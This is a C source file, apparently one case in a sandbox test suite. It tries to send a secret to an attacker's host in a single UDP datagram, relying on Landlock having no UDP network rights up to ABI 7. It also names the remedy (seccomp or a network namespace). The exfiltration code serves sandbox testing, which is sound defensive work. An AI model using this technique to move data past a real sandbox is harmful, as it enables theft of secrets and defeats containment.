// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach the attacker's host.
 * Means: one datagram. Landlock's rights on the network are about TCP; for UDP there is none up to
 *        ABI 7, so that a rule set which allows no port at all does not matter.
 */
#include "attacks/attack.h"

#include <string.h>
#include <sys/socket.h>

static enum claim run(const struct brief *b)
{
	int fd;

	attempting(b);
	fd = dial(SOCK_DGRAM, b->sink);
	if (fd < 0)
		return denied("a UDP socket");
	return send(fd, b->secret, strlen(b->secret), 0) < 0 ? denied("send") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's host",
	.means = "UDP, for which Landlock has no right up to ABI 7",
	.oracle = "sink",
	.quick = true,
	.attack_id = "T1048, CWE-693",
	.remedy = "seccomp without socket(2); a network namespace",
	.refs = (const char *const[]){ "landlock(7)", "udp(7)", NULL },
	.run = run,
};
